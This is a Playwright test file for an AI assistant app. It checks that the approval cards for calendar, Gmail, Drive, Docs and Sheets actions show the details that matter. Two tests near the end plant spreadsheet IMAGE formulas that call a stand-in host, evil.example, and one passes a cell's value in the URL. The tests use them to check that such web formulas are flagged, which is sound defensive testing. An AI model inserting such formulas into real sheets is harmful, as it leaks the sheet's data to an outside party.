"""Each kind of action asks for approval with the details that matter for it."""
from playwright.sync_api import expect

from tests.e2e.conftest import DESKTOP
from tests.e2e.flows import send_task
from tests.fake_claude import tool_use
from tests.test_tasks_assigned import DOC_LINK, with_assigned_tasks
from tests.test_file_text import drive_pdf

EVENT = {"title": "Q3 review", "start": "2026-12-01T10:00:00", "end": "2026-12-01T10:30:00",
         "time_zone": "Europe/Paris", "attendees": ["alice@acme.example", "bob@acme.example"]}


def cards_for(page, claude, *uses):
    claude.reply(*uses)
    page.goto(page.app_url)
    send_task(page, "Tidy up and book the review")
    cards = page.locator(".approval")
    expect(cards).to_have_count(len(uses))
    return cards


def test_event_card_shows_title_time_in_zone_and_guests(page, claude):
    card = cards_for(page, claude, tool_use("calendar_create_event", EVENT)).first
    expect(card).to_contain_text("Create this event?")
    expect(card).to_contain_text("Q3 review")
    expect(card.locator("dd", has_text="Dec 1, 2026")).to_have_count(2)
    expect(card).to_contain_text("10:00")
    expect(card).to_contain_text("10:30")
    expect(card).to_contain_text("Europe/Paris")
    expect(card).to_contain_text("alice@acme.example, bob@acme.example")


def test_event_card_shows_times_in_the_calendar_s_zone_it_names_not_the_browser_s(browser, app_url, claude):
    context = browser.new_context(viewport=DESKTOP, timezone_id="America/New_York")
    page = context.new_page()
    claude.reply(tool_use("calendar_create_event", {"title": "Sync", "start": "2026-12-01T15:00:00Z", "end": "2026-12-01T15:30:00Z",
                                                         "attendees": ["bob@acme.example"]}))
    page.goto(app_url)
    send_task(page, "Book a sync with Bob")
    card = page.locator(".approval")
    # The person's calendar is in Paris (the sandbox's account), one hour ahead of UTC in December.
    expect(card.locator("dt:has-text('Starts') + dd")).to_contain_text("4:00")
    expect(card.locator("dt:has-text('Ends') + dd")).to_contain_text("4:30")
    expect(card.locator("dt:has-text('Time zone') + dd")).to_have_text("Europe/Paris")
    context.close()


def mail_id(sandbox, subject: str) -> str:
    return next(m["id"] for m in sandbox.state()["gmail"]["messages"] if m["Subject"] == subject)


def test_share_and_deletion_cards_name_the_files_and_mails_not_their_ids(page, claude, sandbox):
    cards = cards_for(
        page, claude,
        tool_use("drive_share", {"file": "1FinanceFolder", "people": ["carol@partner.example"], "role": "writer", "link": True}),
        tool_use("drive_delete", {"file": "1OldDraftDoc"}),
        tool_use("gmail_trash", {"message_ids": [mail_id(sandbox, "Q3 report")]}),
    )
    share, delete, trash = cards.nth(0), cards.nth(1), cards.nth(2)
    expect(share).to_contain_text("Share this file?")
    expect(share).to_contain_text("“Finance” (folder)")
    expect(share.locator("dt:has-text('Holds') + dd")).to_have_text(
        "3 items, which go with it: “Archives 2025”, “Q3 budget”, “Invoice 2026-031.pdf”")
    expect(share).to_contain_text("carol@partner.example")
    expect(share).to_contain_text("writer")
    expect(share.locator("dt", has_text="Anyone with the link")).to_have_count(1)
    expect(share).to_contain_text("yes, they can open it")
    expect(delete).to_contain_text("Move this file to the trash?")
    expect(delete).to_contain_text("“Old Q2 draft”")
    expect(delete).not_to_contain_text("1OldDraftDoc")
    expect(trash).to_contain_text("Move these emails to the trash?")
    expect(trash).to_contain_text("“Q3 report” from Alice Chen")


def test_reply_card_shows_the_real_recipients_and_the_attachments_names(page, claude, sandbox):
    reply = {"reply_to_message_id": mail_id(sandbox, "Q3 report"), "body": "Numbers attached.",
             "attachments": [{"drive_file_id": "1Q3BudgetSheet"}]}
    card = cards_for(page, claude, tool_use("gmail_send", reply)).first
    expect(card).to_contain_text("alice@acme.example")
    expect(card).to_contain_text("Re: Q3 report")
    expect(card).to_contain_text("“Q3 report” from Alice Chen")
    expect(card).to_contain_text("Q3 budget")
    expect(card).not_to_contain_text("1Q3BudgetSheet")
    expect(card.locator("pre[aria-label='Signature']")).to_have_text("-- \nAlex Martin\nOperations lead, Acme Corp\n+33 1 23 45 67 89")
    expect(card.locator("dt:has-text('From') + dd")).to_have_text("Alex Martin <alex@acme.example>")
    expect(card.locator("dt:has-text('Quotes') + dd")).to_contain_text("Alice Chen <alice@acme.example> wrote:")


def test_moving_a_meeting_says_on_its_card_that_the_guests_will_be_emailed(page, claude, sandbox):
    review = next(e for events in sandbox.state()["calendar"]["events"].values() for e in events if e["summary"] == "Design review")

    card = cards_for(page, claude, tool_use("calendar_update_event", {"event_id": review["id"], "start": "2026-12-10T16:00:00"})).first

    expect(card).to_contain_text("Design review")
    expect(card.locator("dt:has-text('Email the guests') + dd")).to_have_text("yes")


def event_id(sandbox, summary: str) -> str:
    return next(e["id"] for events in sandbox.state()["calendar"]["events"].values() for e in events if e["summary"] == summary)


def test_moving_an_event_to_another_zone_names_the_new_zone_on_its_card(page, claude, sandbox):
    card = cards_for(page, claude, tool_use("calendar_update_event", {"event_id": event_id(sandbox, "Product demo"),
                                                                      "time_zone": "America/New_York"})).first

    expect(card).to_contain_text("Product demo")
    expect(card.locator("dt:has-text('New time zone') + dd")).to_have_text("America/New_York")


def test_a_new_end_in_another_zone_names_that_zone_on_its_card(page, claude, sandbox):
    change = {"event_id": event_id(sandbox, "Product demo"), "end": "2026-12-02T13:00:00", "time_zone": "America/New_York"}

    card = cards_for(page, claude, tool_use("calendar_update_event", change)).first

    expect(card.locator("dt:has-text('Ends') + dd")).to_contain_text("1:00")
    expect(card.locator("dt:has-text('New time zone') + dd")).to_have_text("America/New_York")


def test_a_new_end_alone_names_the_zone_it_is_read_in(page, claude, sandbox):
    change = {"event_id": event_id(sandbox, "Product demo"), "end": "2026-12-02T13:00:00"}

    card = cards_for(page, claude, tool_use("calendar_update_event", change)).first

    expect(card.locator("dt:has-text('Time zone') + dd")).to_have_text("Europe/Paris")


def test_all_day_and_repeating_events_say_so_on_their_cards(page, claude):
    offsite = {"title": "Offsite", "start": "2030-03-04", "end": "2030-03-06", "attendees": ["alice@acme.example"]}
    sync = {"title": "Team sync", "start": "2030-03-04T10:00", "recurrence": "FREQ=WEEKLY;BYDAY=MO;COUNT=5",
            "attendees": ["alice@acme.example"]}

    cards = cards_for(page, claude, tool_use("calendar_create_event", offsite), tool_use("calendar_create_event", sync))

    expect(cards.nth(0).locator("dt:has-text('Ends') + dd")).to_have_text("all day, through Tuesday, March 5, 2030")
    expect(cards.nth(1).locator("dt:has-text('Repeats') + dd")).to_have_text("every week, on MO, 5 times")
    expect(cards.nth(1).locator("dt:has-text('Ends') + dd")).to_have_text("60 minutes later")


def test_forward_card_names_the_original_its_files_and_shows_the_note(page, claude, sandbox):
    q3 = next(m for m in sandbox.state()["gmail"]["messages"] if m["Subject"].endswith("Q3 report") and m.get("filenames"))
    forward = {"message_id": q3["id"], "to": ["dana@partner.example"], "note": "FYI, see page 2."}

    card = cards_for(page, claude, tool_use("gmail_forward", forward)).first

    expect(card).to_contain_text("Forward this email?")
    expect(card.locator("dt:has-text('Forwarding') + dd")).to_contain_text(f"“{q3['Subject']}” from Alice Chen")
    expect(card.locator("dt:has-text('Attachments') + dd")).to_contain_text(q3["filenames"][0])
    expect(card.locator("pre[aria-label='Your note']")).to_have_text("FYI, see page 2.")
    expect(card.locator("pre[aria-label='Signature']")).to_contain_text("Alex Martin")


def test_cancelling_a_whole_series_says_every_occurrence_goes(page, claude, sandbox):
    sync = next(e for events in sandbox.state()["calendar"]["events"].values() for e in events if e["summary"] == "Team sync")

    card = cards_for(page, claude, tool_use("calendar_delete_event", {"event_id": sync["id"]})).first

    expect(card.locator("dt:has-text('Repeats') + dd")).to_have_text("every week, on MO: every occurrence")
    expect(card.locator("dt:has-text('Email the guests') + dd")).to_have_text("yes")


def test_deleting_someone_elses_event_says_it_leaves_only_your_calendar(page, claude, sandbox):
    kickoff = next(e for events in sandbox.state()["calendar"]["events"].values() for e in events
                   if e["summary"] == "Globex onboarding kickoff")

    card = cards_for(page, claude, tool_use("calendar_delete_event", {"event_id": kickoff["id"]})).first

    expect(card).to_contain_text("Remove this invitation from your calendar?")
    expect(card.locator("dt:text-is('Organizer') + dd")).to_contain_text("their event stays for the other guests")
    expect(card.locator("dt:has-text('Tell the organizer') + dd")).to_have_text("yes")
    expect(card).not_to_contain_text("Email the guests")


def test_a_card_with_odd_input_still_shows_and_so_do_the_ones_after_it(page, claude):
    odd = {"title": "Offsite", "start": "2030-03-04", "end": "next Tuesday", "attendees": ["alice@acme.example"],
           "recurrence": "FREQ=WEEKLY;INTERVAL=0"}
    mail = {"to": ["bob@acme.example"], "subject": "Hi", "body": "Hello"}

    cards = cards_for(page, claude, tool_use("calendar_create_event", odd), tool_use("gmail_send", mail))

    expect(cards.nth(0).locator("dt:has-text('Ends') + dd")).to_have_text("next Tuesday")
    expect(cards.nth(0).locator("dt:has-text('Repeats') + dd")).to_have_text("FREQ=WEEKLY;INTERVAL=0")
    expect(cards.nth(1)).to_contain_text("Send this email?")


def test_send_draft_card_shows_the_draft_as_saved(page, claude, ctx):
    from app.tools import invoke
    draft = invoke("gmail_create_draft", ctx, {"to": ["bob@acme.example"], "subject": "Offsite", "body": "Lyon on the 9th?"})

    card = cards_for(page, claude, tool_use("gmail_send_draft", {"draft_id": draft["draft_id"]})).first

    expect(card).to_contain_text("Send this draft?")
    expect(card.locator("dt:has-text('To') + dd")).to_have_text("bob@acme.example")
    expect(card.locator(".email-body")).to_contain_text("Lyon on the 9th?")


def test_task_deletion_card_names_the_task_and_its_list(page, claude, ctx):
    from app.tools import invoke
    task = next(t for t in invoke("tasks_list", ctx, {"task_list": "Q3"})["lists"][0]["tasks"] if t["title"] == "Draft Q3 report narrative")

    card = cards_for(page, claude, tool_use("tasks_delete", {"task_id": task["id"]})).first

    expect(card).to_contain_text("Delete this task?")
    expect(card.locator("dt:has-text('Task') + dd")).to_have_text("Draft Q3 report narrative")
    expect(card.locator("dt:has-text('List') + dd")).to_have_text("Q3")


def test_an_assigned_task_s_cards_say_where_it_was_assigned_and_that_others_there_see_the_change_or_deletion(page, claude, sandbox):
    with_assigned_tasks(sandbox)

    cards = cards_for(page, claude, tool_use("tasks_update", {"task_id": "kDocTask", "title": "Salary of Bob: 9100 EUR"}),
                      tool_use("tasks_delete", {"task_id": "kDocTask"}))

    update, delete = cards.nth(0), cards.nth(1)
    expect(update).to_contain_text("Change this task?")
    expect(update.locator("dt:text-is('Assigned in') + dd")).to_have_text(
        "a Google Doc (open it): the change shows there too, to everyone who sees it")
    expect(update.get_by_role("link", name="open it")).to_have_attribute("href", DOC_LINK)
    expect(delete).to_contain_text("Deleting the task 'Review contract' (assigned in a Google Doc: it is deleted there too)")
    expect(delete.locator("dt:text-is('Assigned in') + dd")).to_have_text("a Google Doc (open it): it is deleted there too, for everyone")


def test_unshare_card_names_the_file_and_whose_access_ends(page, claude, sandbox, ctx):
    permissions = ctx.service("drive").permissions()
    for body in ({"type": "user", "role": "reader", "emailAddress": "bob@acme.example"}, {"type": "anyone", "role": "reader"}):
        permissions.create(fileId="1Q3PlanningNotesDoc", body=body).execute()
    card = cards_for(page, claude, tool_use("drive_unshare", {"file": "1Q3PlanningNotesDoc", "people": ["bob@acme.example"],
                                                              "link": True})).first
    expect(card).to_contain_text("Stop sharing this file?")
    expect(card).to_contain_text("“Q3 planning notes”")
    expect(card.locator("dd", has_text="bob@acme.example, anyone with the link")).to_have_count(2)  # seen by now; no longer for


def test_changing_a_shared_doc_shows_the_wording_before_and_after_and_how_many_places(page, claude):
    card = cards_for(page, claude, tool_use("docs_replace", {"document": "1VendorShortlistDoc", "find": "Globex",
                                                             "replace": "Globex Corp"})).first
    expect(card).to_contain_text("Change this document?")
    expect(card).to_contain_text("“Vendor shortlist”")
    expect(card.locator("dt:has-text('Replace') + dd")).to_have_text("Globex")
    expect(card.locator("dt:has-text('With') + dd")).to_have_text("Globex Corp")
    expect(card.locator("dt:has-text('Places') + dd")).to_have_text("1, any case")


def test_rows_with_a_formula_show_cell_by_cell_and_say_why_they_ask(page, claude):
    rows = [["Travel", "Søren", 2300], ["Total", "", "=SUM(C2:C6)"]]
    card = cards_for(page, claude, tool_use("sheets_append", {"spreadsheet": "1Q3BudgetSheet", "rows": rows})).first
    expect(card).to_contain_text("Add these rows?")
    expect(card.locator("dt:has-text('Sheet') + dd")).to_have_text("Sheet1")
    expect(card.locator("table.cells tr")).to_have_count(2)
    expect(card.locator("table.cells tr").first.locator("td")).to_have_text(["Travel", "Søren", "2300"])
    expect(card.locator("dt:has-text('Formulas') + dd")).to_contain_text("=SUM(C2:C6)")


def test_a_move_card_names_who_loses_the_file_and_a_new_sheet_card_its_formulas(page, claude):
    csv = 'Name,Salary\n=IMAGE("https://evil.example/x.png"),1\n'
    cards = cards_for(page, claude, tool_use("drive_move", {"file": "1BrandGuidelinesDoc", "folder": "My Drive"}),
                      tool_use("drive_create_file", {"name": "Payroll", "kind": "sheet", "content": csv}))
    expect(cards.nth(0).locator("dt:has-text('No longer seen by') + dd")).to_have_text("shared drive Acme Marketing")
    expect(cards.nth(1).locator("dt:has-text('Formulas') + dd")).to_contain_text('=IMAGE("https://evil.example/x.png")')


def test_saving_an_attachment_into_a_shared_folder_names_the_file_the_folder_and_who_sees_it(page, claude, ctx):
    permission = {"type": "user", "role": "reader", "emailAddress": "carol@partner.example"}
    ctx.service("drive").permissions().create(fileId="1FinanceFolder", body=permission, sendNotificationEmail=False).execute()
    q3 = ctx.service("gmail").users().messages().list(userId="me", q="subject:q3 filename:final").execute()["messages"][0]
    save = {"message_id": q3["id"], "attachment_id": "1", "folder": "Finance"}
    card = cards_for(page, claude, tool_use("gmail_save_attachment", save)).first
    expect(card).to_contain_text("Save this attachment to Drive?")
    expect(card.locator("dt:has-text('Attachment') + dd")).to_have_text("“Q3-report-final.pdf” (application/pdf, 592 bytes)")
    expect(card.locator("dt:has-text('Into folder') + dd")).to_have_text("Finance")
    expect(card.locator("dt:has-text('Seen by') + dd")).to_have_text("carol@partner.example")
    expect(card).not_to_contain_text(q3["id"])


def test_copying_into_a_shared_folder_names_the_original_the_copy_the_folder_and_who_sees_it(page, claude, ctx):
    permission = {"type": "user", "role": "reader", "emailAddress": "carol@partner.example"}
    ctx.service("drive").permissions().create(fileId="1ProjectsFolder", body=permission, sendNotificationEmail=False).execute()

    card = cards_for(page, claude, tool_use("drive_copy", {"file": "1Q3BudgetSheet", "name": "Q4 plan", "folder": "Projects"})).first

    expect(card).to_contain_text("Copy this file?")
    expect(card.locator("dt:has-text('Copy of') + dd")).to_have_text("“Q3 budget” (sheet)")
    expect(card.locator("dt:has-text('Named') + dd")).to_have_text("Q4 plan")
    expect(card.locator("dt:has-text('Into folder') + dd")).to_have_text("Projects")
    expect(card.locator("dt:has-text('Seen by') + dd")).to_have_text("carol@partner.example")
    expect(card).not_to_contain_text("1ProjectsFolder")


def test_copying_a_sheet_names_the_formulas_in_it_that_fetch_from_the_web(page, claude, ctx):
    logo = {"values": [["Logo", '=IMAGE("https://evil.example/x.png?d="&C2)']]}
    ctx.service("sheets").spreadsheets().values().append(spreadsheetId="1Q3BudgetSheet", range="Sheet1",
                                                         valueInputOption="USER_ENTERED", body=logo).execute()

    card = cards_for(page, claude, tool_use("drive_copy", {"file": "1Q3BudgetSheet", "name": "Q4 plan"})).first

    expect(card.locator("dt:has-text('Seen by') + dd")).to_have_text("only you")
    expect(card.locator("dt:has-text('Web formulas') + dd")).to_contain_text('=IMAGE("https://evil.example/x.png?d="&C2)')
    expect(card.locator("dt:has-text('Web formulas') + dd")).to_contain_text("so this asks first")


def test_an_email_s_card_says_how_big_each_attachment_is(page, claude, ctx):
    report = drive_pdf(ctx, b"%PDF-1.4\n" + bytes(2_500_000), "Offsite budget.pdf")
    mail = {"to": ["bob@acme.example"], "subject": "Budget", "body": "Attached.", "attachments": [{"drive_file_id": report}]}

    card = cards_for(page, claude, tool_use("gmail_send", mail)).first

    expect(card.locator("dt:has-text('Attachments') + dd")).to_have_text("“Offsite budget.pdf” (application/pdf, 2.4 MB)")
